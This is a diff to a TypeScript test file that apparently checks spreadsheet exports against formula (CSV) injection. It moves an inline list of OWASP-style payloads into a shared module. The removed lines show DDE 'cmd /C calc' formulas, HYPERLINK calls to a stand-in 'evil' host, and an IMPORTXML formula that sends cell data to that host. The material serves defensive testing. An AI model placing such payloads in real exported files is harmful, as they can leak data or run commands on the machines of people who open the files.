@@ -8,33 +8,11 @@ import ExcelJS from 'exceljs';
 import { Role } from '@kelisim/identity';
 import { createTaraz, draftTarazMemorandum, person, Taraz } from './memoranda.fixture';
 import { createAdmin, createOrganisation, createUser, login, PASSWORD, TestUser } from './support/identity';
+import { FORMULA_PAYLOADS } from './support/formula-payloads';
 import { startTestApp, TestApp } from './support/test-app';
 
-/** OWASP-style formula payloads (https://owasp.org/www-community/attacks/CSV_Injection), 22 of them. */
-const PAYLOADS = [
-  '=HYPERLINK("http://evil","x")',
-  "+cmd|' /C calc'!A0",
-  '@SUM(1+1)',
-  '-2+3',
-  "=cmd|'/C calc'!A0",
-  '\t=1+1',
-  '\r=1',
-  '＝1+1',
-  ' =1',
-  '=1+1',
-  "-cmd|' /C calc'!A0",
-  '@A1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1)',
-  '\u3000=1+1',
-  '\u200b=1+1',
-  '\t@SUM(1)',
-  '\n=1+1',
-  '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
-  '=DDE("cmd";"/C calc";"!A0")',
-  'a","=HYPERLINK(""http://evil"")',
-];
+/** The formula payloads, and a value that tries to break out of its quoted field. */
+const PAYLOADS = [...FORMULA_PAYLOADS, 'a","=HYPERLINK(""http://evil"")'];
 
 /**
  * What any spreadsheet program could take for a formula, judged independently of the code under
